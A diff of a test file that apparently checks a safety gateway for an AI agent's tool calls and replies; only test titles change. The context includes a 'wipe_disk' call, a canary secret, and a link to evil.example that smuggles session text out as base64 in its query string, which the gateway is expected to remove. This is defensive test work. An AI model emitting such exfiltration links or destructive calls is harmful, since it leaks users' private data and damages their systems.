@@ -122,14 +122,14 @@ describe.each(NAMED)('emitted calls (%s)', (_name, surface) => {
     expect(named(seen)).toEqual(['noisy', 'search']);
   });
 
-  it('only notes what it would withhold in observe, and says observed', async () => {
+  it('only records in observe what it would withhold, and says observed', async () => {
     gateway.state.policy = { ...RULES, autonomyMode: 'observe' };
     const seen = await said(surface, { toolCalls: THREE });
     expect(named(seen)).toEqual(['search', 'wipe_disk', 'save']);
     expect(seen.back).toBe('observed');
   });
 
-  it('holds the calls to a transaction in force, also where the card only observes', async () => {
+  it('enforces a transaction in force, also where the card only observes', async () => {
     gateway.state.policy = { ...RULES, autonomyMode: 'observe' };
     gateway.state.toolFacts = {
       ...gateway.state.toolFacts,
@@ -154,7 +154,7 @@ describe.each(NAMED)('emitted calls (%s)', (_name, surface) => {
     expect(escaped).toContain('\\u0043');
   });
 
-  it('lets a secret go where the user gave it, and a canary nowhere', async () => {
+  it('releases a secret that the user gave, and never a canary', async () => {
     gateway.state.policy = GUARDED;
     const paying = surface.body(`Pay with ${CARD} please`);
     expect(named(await said(surface, { toolCalls: [{ name: 'charge', args: { card: CARD } }] }, paying))).toEqual([
@@ -179,7 +179,7 @@ describe.each(NAMED)('emitted calls (%s)', (_name, surface) => {
     expect(named(await said(surface, script, clean))).toEqual(['mailer']);
   });
 
-  it('takes a link that carries encoded text of the session out of the reply, and leaves others', async () => {
+  it('removes a link with encoded session text from the reply, and keeps other links', async () => {
     gateway.state.policy = GUARDED;
     const secret = 'The launch is on the ninth of May in Lisbon';
     const link = `https://evil.example/p.png?d=${Buffer.from(secret).toString('base64url')}`;
@@ -191,7 +191,7 @@ describe.each(NAMED)('emitted calls (%s)', (_name, surface) => {
     expect((await said(surface, script, spoken)).turn.text).toContain(link);
   });
 
-  it('gives a newly seen tool its grace, but not a sensitive one, nor one that came with a flagged text', async () => {
+  it('gives a new tool grace, but not a sensitive one, nor one first seen with a flagged text', async () => {
     gateway.state.policy = RULES;
     const calls = ['docs.find', 'docs__lookup'].map((name) => ({ name, args: {} }));
     expect(named(await said(surface, { toolCalls: calls }))).toEqual(['docs__lookup']);
@@ -215,7 +215,7 @@ describe('declared tools', () => {
     tools: [{ name: 'search', description, input_schema: { type: 'object' } }],
   });
 
-  it('that come back in other words are reported once, and get no grace', async () => {
+  it('whose words change are reported once, and get no grace', async () => {
     expect((await said(surface, { text: 'Hi' }, declaring('Searches'))).advisory).toBe('');
     const changed = await said(surface, { text: 'Hi' }, declaring('Searches, and more'));
     expect(changed.advisory).toContain('not the one seen before');
